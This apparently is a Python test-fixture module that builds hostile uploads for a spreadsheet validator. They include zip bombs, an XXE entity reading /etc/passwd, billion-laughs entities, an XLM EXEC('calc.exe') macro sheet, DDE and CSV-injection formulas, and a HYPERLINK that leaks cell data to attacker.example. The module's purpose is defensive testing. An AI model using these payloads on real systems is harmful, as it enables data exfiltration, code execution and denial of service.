"""Hostile files, built in memory: zip bombs, XXE, billion laughs, macros, encrypted
containers, formulas, wrong encodings, a million rows, a 10 MB cell.

Each builder starts from a real workbook openpyxl wrote (or real CSV text) and breaks one thing,
so a refusal can only be for that one thing.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import zipfile

from openpyxl import Workbook

from questionnaires import build_template, default_registry
from tests.datasets.builders import SUPPLIER_HEADER, csv_file, supplier, workbook

PDF_BYTES = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
CONTENT_TYPES = "[Content_Types].xml"
MACRO_MAIN = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PLAIN_MAIN = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


@functools.cache
def suppliers_xlsx() -> bytes:
    """A valid two-row suppliers workbook (a control: it is accepted as it is)."""
    return workbook(
        [SUPPLIER_HEADER, supplier(), supplier(Name="Hilados del Sur")], sheet="Suppliers"
    )


@functools.cache
def suppliers_csv() -> bytes:
    return csv_file([SUPPLIER_HEADER, supplier(), supplier(Name="Hilados del Sur")])


@functools.cache
def answers_template() -> bytes:
    return build_template(default_registry().get("company"))


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rezip(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def with_member(data: bytes, name: str, content: bytes) -> bytes:
    parts = members(data)
    parts[name] = content
    return rezip(parts)


# --- zip bombs ------------------------------------------------------------------------------


def declared_size_bomb(data: bytes, name: str = SHEET, size: int = 0xFFFF_FFF0) -> bytes:
    """The member `name` claims to unpack to ~4 GiB in both its local and central headers."""
    return _patch_sizes(data, name.encode(), size)


def _patch_sizes(data: bytes, name: bytes, size: int) -> bytes:
    blob = bytearray(data)
    position = 0
    while (position := blob.find(b"PK\x03\x04", position)) != -1:
        name_length = struct.unpack_from("<H", blob, position + 26)[0]
        if bytes(blob[position + 30 : position + 30 + name_length]) == name:
            struct.pack_into("<I", blob, position + 22, size)
        position += 4
    position = 0
    while (position := blob.find(b"PK\x01\x02", position)) != -1:
        name_length = struct.unpack_from("<H", blob, position + 28)[0]
        if bytes(blob[position + 46 : position + 46 + name_length]) == name:
            struct.pack_into("<I", blob, position + 24, size)
        position += 4
    return bytes(blob)


@functools.cache
def ratio_bomb() -> bytes:
    """A valid suppliers workbook whose sheet XML is padded with 30 MB of whitespace: it
    deflates about a thousand to one."""
    parts = members(suppliers_xlsx())
    sheet = parts[SHEET]
    head, _, tail = sheet.partition(b"?>")
    parts[SHEET] = head + b"?>" + b" " * (30 * 2**20) + tail
    return rezip(parts)


@functools.cache
def nested_zip_bomb(depth: int = 3, fan_out: int = 8) -> bytes:
    """A zip of zips of zips (42.zip in small): each innermost zip holds 1 MiB of zeros."""
    layer = rezip({"zeros.bin": b"\0" * 2**20})
    for level in range(depth):
        layer = rezip({f"layer{level}-{n}.zip": layer for n in range(fan_out)}, zipfile.ZIP_STORED)
    return layer


# --- XML attacks ------------------------------------------------------------------------------

XXE_DOCTYPE = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    b'<!DOCTYPE sst [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)


def _after_declaration(xml: bytes, insert: bytes) -> bytes:
    if b"?>" not in xml[:200]:
        return insert + xml
    head, _, tail = xml.partition(b"?>")
    return head + b"?>" + insert + tail


@functools.cache
def xxe_workbook() -> bytes:
    """The sheet declares an external entity reading /etc/passwd and uses it in a cell."""
    parts = members(suppliers_xlsx())
    sheet = _after_declaration(parts[SHEET], XXE_DOCTYPE)
    parts[SHEET] = sheet.replace(b"<sheetData>", b"<sheetData><!-- &xxe; -->", 1)
    return rezip(parts)


@functools.cache
def billion_laughs_workbook() -> bytes:
    """A shared-strings part (which the cell reader parses itself) declaring nine levels of
    nested entities, 10^9 'lol's, used by the first supplier's name."""
    parts = members(suppliers_xlsx())
    parts[STRINGS] = _after_declaration(
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        b'uniqueCount="1"><si><t>&lol9;</t></si></sst>',
        LAUGHS,
    )
    parts[CONTENT_TYPES] = parts[CONTENT_TYPES].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    rels = "xl/_rels/workbook.xml.rels"
    parts[rels] = parts[rels].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdStrings" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    )
    parts[SHEET] = parts[SHEET].replace(
        b'<c r="A2" t="inlineStr"><is><t>Textiles Andinos</t></is></c>',
        b'<c r="A2" t="s"><v>0</v></c>',
    )
    assert b'<c r="A2" t="s">' in parts[SHEET]
    return rezip(parts)


# --- macros, encryption -----------------------------------------------------------------------


@functools.cache
def macro_workbook() -> bytes:
    """A macro-enabled workbook (vbaProject.bin, macro content type) saved under .xlsx."""
    parts = members(suppliers_xlsx())
    parts[CONTENT_TYPES] = parts[CONTENT_TYPES].replace(PLAIN_MAIN, MACRO_MAIN)
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    return rezip(parts)


@functools.cache
def macro_sheet_workbook() -> bytes:
    """Macro-enabled by its content type, with an Excel 4.0 macro sheet (XLM, no vbaProject.bin:
    the kind of macro that needs no VBA at all)."""
    parts = members(suppliers_xlsx())
    parts[CONTENT_TYPES] = (
        parts[CONTENT_TYPES]
        .replace(PLAIN_MAIN, MACRO_MAIN)
        .replace(
            b"</Types>",
            b'<Override PartName="/xl/macrosheets/sheet1.xml" '
            b'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
        )
    )
    parts["xl/macrosheets/sheet1.xml"] = (
        b'<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">'
        b'<c r="A1"><f>EXEC("calc.exe")</f></c><c r="A2"><f>HALT()</f></c></row></sheetData>'
        b"</xm:macrosheet>"
    )
    return rezip(parts)


def _directory_entry(name: str, kind: int, start: int, size: int) -> bytes:
    encoded = (name + "\0").encode("utf-16-le")
    return (
        encoded.ljust(64, b"\0")
        + struct.pack("<HBB", len(encoded), kind, 1)  # name length, type, colour (black)
        + struct.pack("<iii", -1, -1, -1 if kind != 5 else 1)  # left, right, child
        + b"\0" * 16  # CLSID
        + struct.pack("<I", 0)  # state bits
        + b"\0" * 16  # created, modified
        + struct.pack("<iI", start, size)
        + b"\0" * 4
    )


@functools.cache
def encrypted_workbook() -> bytes:
    """What Excel writes for a password-protected .xlsx: an OLE compound file (not a zip)
    holding 'EncryptionInfo' and 'EncryptedPackage' streams."""
    sector = 512
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>".ljust(sector - 8, b"\0")
    package = struct.pack("<Q", 4096) + random.Random(11).randbytes(sector - 8)
    directory = (
        _directory_entry("Root Entry", 5, -2, 0)
        + _directory_entry("EncryptionInfo", 2, 2, len(info))
        + _directory_entry("EncryptedPackage", 2, 3, len(package))
    ).ljust(sector, b"\0")
    end_of_chain, fat_sector, free = -2, -3, -1
    fat = struct.pack("<4i", fat_sector, end_of_chain, end_of_chain, end_of_chain)
    fat = fat + struct.pack("<i", free) * (sector // 4 - 4)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIiIIiIiI", 0, 1, 1, 0, 0, -2, 0, -2, 0)
        + struct.pack("<i", 0)
        + struct.pack("<i", free) * 108
    )
    assert len(header) == sector
    return header + fat + directory + info + package


# --- formulas, text ----------------------------------------------------------------------------

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://attacker.example/?leak="&A2,"Click for details")',
    "dde": "=cmd|' /C calc'!A0",
}
CSV_INJECTIONS = {
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "equals": '=HYPERLINK("http://attacker.example","x")',
}


def suppliers_with_formula(formula: str) -> bytes:
    """openpyxl stores a string starting with '=' as a real formula cell."""
    return workbook([SUPPLIER_HEADER, supplier(Name=formula)], sheet="Suppliers")


def answers_with_formula(formula: str) -> bytes:
    """The company answers template with a formula typed as the answer to A1."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(answers_template()))
    for sheet in book.worksheets:
        for row in range(5, sheet.max_row + 1):
            if sheet[f"A{row}"].value == "A1":
                sheet[f"D{row}"] = formula
                buffer = io.BytesIO()
                book.save(buffer)
                return buffer.getvalue()
    raise AssertionError("question A1 is not in the template")


def suppliers_csv_encoded(encoding: str, name: str) -> bytes:
    return csv_file([SUPPLIER_HEADER, supplier(Name=name, Country="JP")], encoding=encoding)


@functools.cache
def million_rows_csv() -> bytes:
    """A suppliers CSV with 1,000,000 data rows (2 MB: small enough to be checked at once)."""
    return b"Name,Country\n" + b"a\n" * 1_000_000


@functools.cache
def ten_megabyte_text() -> str:
    """10 MiB of two letters at random: compresses about eight to one, so no ratio alarm."""
    bits = random.Random(7).randbytes(10 * 2**20 // 8)
    table = ["".join("ab"[(byte >> i) & 1] for i in range(8)) for byte in range(256)]
    return "".join(table[byte] for byte in bits)


@functools.cache
def huge_cell_workbook() -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = "Suppliers"
    sheet.append(SUPPLIER_HEADER)
    sheet.append(supplier(Name=ten_megabyte_text()))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def deeply_nested_json(depth: int = 100_000) -> bytes:
    return b'{"answers": ' + b"[" * depth + b"]" * depth + b"}"
